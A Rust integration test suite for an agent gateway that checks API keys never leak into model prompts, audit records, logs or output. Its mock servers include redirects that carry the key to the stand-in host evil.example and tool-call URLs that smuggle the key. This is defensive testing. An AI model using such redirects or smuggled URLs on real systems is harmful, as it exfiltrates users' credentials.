//! No secret is anywhere but in the requests that need it: not in what people see, not in the record, not with the
//! model. The servers here are real, and repeat what they were given in every way that they can think of.

use std::collections::HashSet;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::process::Stdio;
use std::sync::LazyLock;

use bulkhead_tests::server::{Deed, Request, Server, says, stream, whole};
use bulkhead_tests::tls::Secure;
use bulkhead_tests::{Home, Said, eventually, tree};
use data_encoding::{BASE64, HEXLOWER};
use serde_json::{Value, json};

mod program;

/// The key of the model server, and the one that goes to a host. Each character of them that some encoding writes in
/// another way makes that encoding's form another text.
const MODEL_KEY: &str = r#"sk-Model+7/q"\&<%41>=x~Zz9"#;
const HOST_KEY: &str = r#"hk/Forum-8_w'\"&%2F<>=y~Aa3"#;

/// This many bytes of a form in a row are a leak, too.
const PIECE: usize = 14;

/// What an agent gets of a page at most, so that a key lies across the cut.
const MAX_PAGE_BYTES: usize = 254 * 1024;

/// The pages of the site, and the ways in which the model's server fails.
const PAGES: [&str; 8] = ["page", "fail", "elsewhere", "onward", "type", "json", "utf-16", "long"];
const FAULTS: [&str; 7] = ["refuse", "plain", "garbage", "half", "inside", "move", "no http"];

/// The forms of a key that are looked for.
fn forms(key: &str) -> Vec<Vec<u8>> {
    let behind = |before: &str| {
        let encoded = BASE64.encode(format!("{before}{key}").as_bytes());
        encoded.into_bytes()
    };
    let percent: String = key.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let quoted = serde_json::to_string(key).unwrap();
    let unicode: String = key.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    let html = key.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
    let mut forms: Vec<Vec<u8>> = [key, &percent, quoted.trim_matches('"'), &unicode, &html]
        .map(|form| form.as_bytes().to_vec())
        .into();
    forms.extend([behind(""), HEXLOWER.encode(key.as_bytes()).into_bytes()]);
    forms
}

/// Every piece of every form of both keys, in lower case.
static PIECES: LazyLock<HashSet<Vec<u8>>> = LazyLock::new(|| {
    let all = [MODEL_KEY, HOST_KEY].into_iter().flat_map(forms);
    all.flat_map(|form| form.to_ascii_lowercase().windows(PIECE).map(<[u8]>::to_vec).collect::<Vec<_>>())
        .collect()
});

/// `bytes` holds no piece of a key in any form.
#[track_caller]
fn clean(place: &str, bytes: &[u8]) {
    let lower = bytes.to_ascii_lowercase();
    if let Some(at) = lower.windows(PIECE).position(|window| PIECES.contains(window)) {
        let around = &bytes[at.saturating_sub(200)..(at + 200).min(bytes.len())];
        panic!("a secret in {place}: {}", String::from_utf8_lossy(around));
    }
}

/// What a request carries as its bearer.
fn bearer(request: &Request) -> String {
    let line = request.head.lines().find_map(|line| line.strip_prefix("authorization: Bearer "));
    line.unwrap_or_default().to_owned()
}

/// A text that says a key in all its forms.
fn repeated(key: &str) -> String {
    forms(key).iter().map(|form| String::from_utf8_lossy(form).into_owned() + " , ").collect()
}

fn delta(delta: Value) -> Value {
    json!({"choices": [{"index": 0, "delta": delta}]})
}

/// A page server that repeats the key that it was given.
fn site() -> Server {
    Server::new(|request| {
        let key = bearer(request);
        let all = repeated(&key);
        let percent: String = key.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let head = |status: &str, more: &str| format!("HTTP/1.1 {status}\r\nconnection: close\r\n{more}\r\n");
        Deed::Say(match request.path.split('?').next().unwrap_or_default() {
            "/fail" => head(&format!("401 {key}"), "content-length: 0\r\n").into_bytes(),
            "/elsewhere" => {
                head("302 Found", &format!("location: https://evil.example/?k={percent}\r\n")).into_bytes()
            }
            "/onward" => head("302 Found", &format!("location: /page?k={percent}\r\n")).into_bytes(),
            "/type" => head("200 OK", &format!("content-type: image/{key}\r\n")).into_bytes(),
            "/json" => whole("application/json", json!({"headers": {"key": key}}).to_string().as_bytes()),
            // A page for a browser hides it once more: the converter is what undoes this.
            "/utf-16" => {
                let wide: Vec<u8> = all.encode_utf16().flat_map(u16::to_le_bytes).collect();
                whole("text/plain; charset=utf-16le", &wide)
            }
            "/long" => whole("text/plain", format!("{}{all}", "x".repeat(MAX_PAGE_BYTES - 20)).as_bytes()),
            _ => whole("text/html", format!("<p>You sent {all}<p>{}", request.head).as_bytes()),
        })
    })
}

/// A model server that answers the way that the person's last words name, and repeats its key in that.
fn model(site: String) -> Server {
    Server::new(move |request| {
        let key = bearer(request);
        let all = repeated(&key);
        if !request.path.ends_with("/chat/completions") {
            let list = json!({"data": [{"id": format!("m-{key}"), "max_model_len": 32768}]});
            return Deed::Say(whole("application/json", list.to_string().as_bytes()));
        }
        let body: Value = serde_json::from_slice(&request.body).unwrap();
        let last = body["messages"].as_array().unwrap().last().unwrap();
        let asked = last["content"].as_str().unwrap_or_default();
        if last["role"] == "tool" {
            let pieces: Vec<Value> = all.chars().map(|c| delta(json!({"content": c.to_string()}))).collect();
            return Deed::Say(stream(&[pieces, says(" that was it")].concat(), true));
        }
        let status = |status: &str, body: &str| {
            format!("HTTP/1.1 {status}\r\nconnection: close\r\nx-key: {key}\r\n\r\n{body}").into_bytes()
        };
        Deed::Say(match asked {
            "refuse" => status(&format!("401 {key}"), &json!({"error": {"message": all}}).to_string()),
            "plain" => status("400 No", &all),
            "garbage" => status("200 OK", &format!("<html>{all}")),
            "half" => stream(&[delta(json!({"content": all}))], false),
            "inside" => stream(&[json!({"error": {"message": all, "code": 500}})], true),
            "move" => format!(
                "HTTP/1.1 307 There\r\nlocation: http://evil.example/{key}\r\ncontent-length: 0\r\n\r\n"
            )
            .into_bytes(),
            "no http" => format!("{key}\r\n{all}\r\n\r\n").into_bytes(),
            path => {
                let call = json!({"url": format!("http://{site}/{path}?told={key}")}).to_string();
                let function = json!({"name": "browser", "arguments": call});
                let calls = json!([{"index": 0, "id": "c1", "function": function}]);
                let thought = json!({"content": all, "reasoning_content": all, "tool_calls": calls});
                let end = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": key}]});
                stream(&[delta(thought), end], true)
            }
        })
    })
}

/// A home whose model server and whose forum want a key, the one in a file and the other in the environment.
fn home(model: &Server, site: &Server) -> Home {
    let home = Home::new();
    keep(&home, "box", MODEL_KEY, 0o600);
    home.add(&format!(
        "{}api-key = \"secret:box\"\n[secrets]\nforum = {{ env = \"FORUM_KEY\" }}\n\
         [[egress.headers]]\nhost = \"{}\"\nname = \"Authorization\"\nvalue = \"Bearer secret:forum\"\n",
        model.settings(),
        site.address
    ));
    home.soul(
        "scout",
        "# Scout\n\n## Identity\n\n- Name: scout\n- Role: Looks\n- Model: box/m\n\n## Skills\n\n\
         - browser: Look\n  - hosts: 127.0.0.1\n",
    );
    home
}

/// Starts its gateway, which alone is given the key that is kept in the environment.
fn start(home: &Home) {
    let mut start = home.command(&["gateway", "start"]);
    start.env("FORUM_KEY", HOST_KEY).stdout(Stdio::piped()).stderr(Stdio::piped());
    Said::of(start.spawn().unwrap()).done();
}

fn keep(home: &Home, name: &str, value: &str, mode: u32) {
    let file = home.at("secrets").join(name);
    fs::write(&file, format!("{value}\n")).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
}

/// One message and everything that it says, with whatever waits let through.
fn told(home: &Home, message: &str) -> Said {
    let chat = home.begin(&["chat", "scout", message, "--json"]);
    eventually("the turn is over, or something waits", || {
        if let Some(id) = home.json(&["approvals", "list"])[0]["id"].as_str() {
            clean("an approval", home.run(&["approvals", "show", id]).done().out.as_bytes());
            home.run(&["approvals", "approve", id]).done();
        }
        home.json(&["agents", "show", "scout"])["state"] != "running"
    });
    Said::of(chat)
}

/// No secret is in what is kept or shown of a home in which both were used.
#[track_caller]
fn nowhere(home: &Home) {
    let records = home.whole(&[]);
    let shown = records.iter().map(Value::to_string).collect::<String>();
    assert!(shown.contains("secret:forum") && shown.contains("secret:box"), "nothing came back at all");
    clean("audit show", shown.as_bytes());
    for command in [
        &["audit", "tail"][..],
        &["agents", "show", "scout"],
        &["agents", "list"],
        &["explain", "scout"],
        &["doctor"],
    ] {
        let said = home.run(command);
        clean(&command.join(" "), [said.out, said.err].concat().as_bytes());
    }
    home.verifies();
    let files = tree(&home.path());
    for wanted in ["journal.sqlite", "HEARTBEAT.md", "gateway.log"] {
        assert!(files.iter().any(|(path, _)| path.ends_with(wanted)), "{wanted}");
    }
    for (path, bytes) in files.iter().filter(|(path, _)| !path.starts_with(home.at("secrets"))) {
        clean(&path.display().to_string(), bytes);
    }
}

#[test]
fn a_secret_is_nowhere_but_in_the_requests_that_need_it() {
    let site = site();
    let model = model(site.address.clone());
    let home = home(&model, &site);
    start(&home);
    for message in PAGES.into_iter().chain(FAULTS) {
        let said = told(&home, message);
        let fails = FAULTS.contains(&message);
        assert_eq!(said.code != 0, fails, "{message}: {}\n{}", said.out, said.err);
        clean(&format!("chat --json: {message}"), said.out.as_bytes());
        clean(&format!("chat's errors: {message}"), said.err.as_bytes());
    }

    // Both keys arrived, in their header and nowhere else, and the model never heard of either.
    let calls = model.requests("/chat/completions");
    assert!(calls.len() > PAGES.len() + FAULTS.len() && calls.iter().all(|call| bearer(call) == MODEL_KEY));
    let asked: usize = PAGES.iter().map(|page| site.requests_beneath(&format!("/{page}")).len()).sum();
    assert!(asked > PAGES.len(), "a redirect within the host was followed");
    for request in site.requests_beneath("/") {
        assert_eq!(bearer(&request), HOST_KEY);
        // What the model proposed; a redirect within the host may hold what the host put there.
        if request.path.contains("told=") {
            clean("a page's address", request.path.as_bytes());
        }
    }
    for call in calls {
        clean("a prompt", &call.body);
    }

    nowhere(&home);
}

#[test]
fn a_secret_that_is_not_there_or_open_to_others_is_said_and_nothing_starts() {
    let server = Server::model(|_| Deed::Say(stream(&says("hello"), true)));
    let home = Home::new();
    home.add(&format!("{}api-key = \"secret:box\"\n", server.settings()));
    let refused = |words: &str| {
        home.run(&["gateway", "start"]).fails(4, words);
        let said = home.run(&["check"]).with(1);
        assert!(said.err.contains(words) && !said.err.contains("Model"), "{}", said.err);
    };
    refused("the secret `box` has no value: write it into");
    keep(&home, "box", MODEL_KEY, 0o644);
    refused("(mode 0644): chmod 600");
    keep(&home, "box", "Model", 0o600);
    refused("shorter than 8 characters");
    keep(&home, "box", MODEL_KEY, 0o600);
    home.run(&["check"]).done();
    home.start();

    // One that goes away later ends the call that wanted it, and no other.
    home.edit("default = \"rehearsal/scene\"", "default = \"box/m\"");
    home.run(&["chat", "helper", "hi"]).done().has("hello");
    fs::remove_file(home.at("secrets/box")).unwrap();
    home.run(&["chat", "helper", "hi"])
        .fails(4, "is not asked without its key: the secret `box` has no value");
    assert_eq!(server.requests("/chat/completions").len(), 1);
}

#[test]
fn a_secret_written_into_the_settings_is_refused_without_being_shown() {
    let home = Home::new();
    home.add(
        "[[models.server]]\nname = \"box\"\nurl = \"http://127.0.0.1:9\"\napi-key = \"sk-sesame-1234\"\n",
    );
    for command in [&["gateway", "start"][..], &["check"], &["chat", "helper", "hi"]] {
        let said = home.run(command);
        assert!(said.code != 0 && !format!("{}{}", said.out, said.err).contains("sesame"), "{}", said.err);
    }
    home.run(&["check"]).fails(2, "a secret is written as `secret:NAME`");
}

#[test]
fn over_tls_a_key_goes_to_a_server_that_proves_itself_and_to_no_other() {
    let site = Secure::new(|request| whole("text/html", format!("<p>You sent: {request}").as_bytes()));
    let fetch = format!(
        "turns: [{{calls: [{{skill: browser, arguments: {{url: \"https://localhost:{}/page\"}}}}]}}, {{say: well, repeat: true}}]",
        site.port
    );
    for trusted in [false, true] {
        let home = Home::new();
        keep(&home, "forum", HOST_KEY, 0o600);
        home.add(&format!(
            "[[egress.headers]]\nhost = \"localhost:{}\"\nname = \"Authorization\"\nvalue = \"Bearer secret:forum\"\n",
            site.port
        ));
        home.scene(&fetch);
        home.soul(
            "scout",
            "# Scout\n\n## Identity\n\n- Name: scout\n- Role: Looks\n\n## Skills\n\n- browser: Look\n  - hosts: localhost\n",
        );
        let mut start = home.command(&["gateway", "start"]);
        if trusted {
            start.env("SSL_CERT_FILE", site.authority());
        }
        Said::of(start.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()).done();
        let said = told(&home, "look").done();
        clean("chat --json", said.out.as_bytes());
        let outcome = home.whole(&["--kind", "outcome"]).into_iter().map(|record| record.to_string());
        let outcome: String = outcome.filter(|record| record.contains("localhost")).collect();
        clean("audit show", outcome.as_bytes());
        if trusted {
            assert!(outcome.contains("You sent") && outcome.contains("(secret:forum)"), "{outcome}");
            let [request] = site.heard().try_into().unwrap();
            assert!(request.contains(&format!("authorization: Bearer {HOST_KEY}\r\n")), "{request}");
        } else {
            assert!(outcome.contains("could not be read") && outcome.contains("certificate"), "{outcome}");
            assert_eq!(site.heard(), [""; 0]);
        }
    }
}
